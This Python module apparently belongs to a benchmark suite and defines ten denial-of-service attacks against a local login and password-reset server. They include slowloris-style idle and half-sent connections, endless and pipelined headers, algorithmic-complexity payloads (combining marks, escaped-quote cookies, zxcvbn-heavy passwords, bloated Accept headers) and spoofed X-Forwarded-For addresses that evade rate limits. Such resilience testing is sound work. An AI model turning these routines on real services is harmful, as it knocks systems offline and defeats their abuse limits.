"""The attacks of `benchmarks.hostile`. A call sends one request or one round of requests, which `number` varies."""

import http.client
import itertools
import json
import socket
from collections.abc import Callable, Mapping
from contextlib import ExitStack, suppress

_ONE_CLIENT = "203.0.113.7"
_WAIT = 20.0
_IDLE = 300
_HEADERS = 29_000_000
"""Bytes of headers on one connection."""

_HALF = 200
"""Half-sent bodies of one thread. Four threads send as many as `serve` keeps connections."""

_AHEAD = 64_000
"""Bytes of headers sent behind a request that has no answer yet: four times as many as `serve` keeps."""

_idle: list[socket.socket] = []


def _send(
    port: int, path: str, client: str, body: Mapping[str, str] | None = None, headers: Mapping[str, str] | None = None
) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=_WAIT)
    sent = {"X-Forwarded-For": client, "Content-Type": "application/json"} | dict(headers or {})
    try:
        method, content = ("GET", None) if body is None else ("POST", json.dumps(body, ensure_ascii=False).encode())
        connection.request(method, path, content, sent)
        connection.getresponse().read()
    finally:
        connection.close()


def _client(number: int) -> str:
    return f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}"


def long_addresses(port: int, number: int) -> None:
    """Send an address with 15 kB of combining marks of two alternating classes, which NFC has to sort."""
    marks = "\u0301\u0323" * 3700
    _send(port, "/api/auth/request-password-reset", _ONE_CLIENT, {"email": f"a{number}{marks}@example.test"})


def long_cookie(port: int, _: int) -> None:
    """Send a cookie with 400 kB of escaped quotes, which Python's library unescapes one by one."""
    cookie = 'keyturn_asked="' + '\\"' * 200_000 + '"'
    _send(port, "/forgot-password", _ONE_CLIENT, headers={"Cookie": cookie})


def disguised_passwords(port: int, number: int) -> None:
    """Send passwords of 32 characters that zxcvbn reads in many ways, each from a different client."""
    signs = itertools.islice(itertools.cycle("4@8({[<369!1|70$5+%2"), number % 20, number % 20 + 32)
    body = {"token": f"{number:043d}", "newPassword": "".join(signs)}
    _send(port, "/api/auth/reset-password-with-token", _client(number), body)


def many_clients(port: int, number: int) -> None:
    """Check invalid links, each from a new client, so that the limits' memory grows by an entry."""
    _send(port, "/api/auth/validate-reset-token", _client(number), {"token": f"{number:043d}"})


def idle_sockets(port: int, _: int) -> None:
    """Open 300 idle connections, and one that sends endless headers."""
    while len(_idle) < _IDLE:
        held = socket.create_connection(("127.0.0.1", port), _WAIT)
        held.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
        _idle.append(held)
    with socket.create_connection(("127.0.0.1", port), _WAIT) as connection:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
        header = b"X-Long: " + b"a" * 8000 + b"\r\n"
        for _sent in range(_HEADERS // len(header)):
            connection.sendall(header)


def half_sent_bodies(port: int, _: int) -> None:
    """Open 200 connections that send half of a body, and wait until the server closes all of them."""
    half = (
        b"POST /api/auth/request-password-reset HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
        b'Content-Length: 8000\r\n\r\n{"email": "' + b"a" * 4000
    )
    with ExitStack() as closing:
        held = [closing.enter_context(socket.create_connection(("127.0.0.1", port), _WAIT)) for _number in range(_HALF)]
        for connection in held:
            connection.sendall(half)
        for connection in held:
            with suppress(ConnectionError):
                connection.recv(65536)


def pipelined_headers(port: int, number: int) -> None:
    """Sign in, which costs a hash, and send 64 kB of headers behind it on the same connection."""
    body = json.dumps({"email": f"nobody{number}@example.test", "password": "seven quiet harbours"}).encode()
    with socket.create_connection(("127.0.0.1", port), _WAIT) as connection:
        connection.sendall(
            b"POST /api/auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
            b"X-Forwarded-For: %s\r\nContent-Length: %d\r\n\r\n%s" % (_client(number).encode(), len(body), body)
        )
        connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
        header = b"X-Long: " + b"a" * 8000 + b"\r\n"
        for _sent in range(_AHEAD // len(header)):
            connection.sendall(header)
        while connection.recv(65536):
            pass


def costly_accept(port: int, _: int) -> None:
    """Send 15 kB of media types in `Accept` to an address that does not exist."""
    _send(port, "/nothing", _ONE_CLIENT, headers={"Accept": ",".join(["a/b;q=0.5"] * 1500)})


def sign_ins(port: int, number: int) -> None:
    """Fail to sign in, each time from a new client and with a new address: each costs a hash."""
    body = {"email": f"nobody{number}@example.test", "password": "seven quiet harbours"}
    _send(port, "/api/auth/login", _client(number), body)


def requests(port: int, number: int) -> None:
    """Request links, each from a new client and for a new address: each costs a row."""
    body = {"email": f"nobody{number}@example.test"}
    _send(port, "/api/auth/request-password-reset", _client(number), body)


ATTACKS: dict[str, Callable[[int, int], None]] = {
    "long-addresses": long_addresses,
    "long-cookie": long_cookie,
    "disguised-passwords": disguised_passwords,
    "many-clients": many_clients,
    "idle-sockets": idle_sockets,
    "half-sent-bodies": half_sent_bodies,
    "pipelined-headers": pipelined_headers,
    "costly-accept": costly_accept,
    "sign-ins": sign_ins,
    "requests": requests,
}
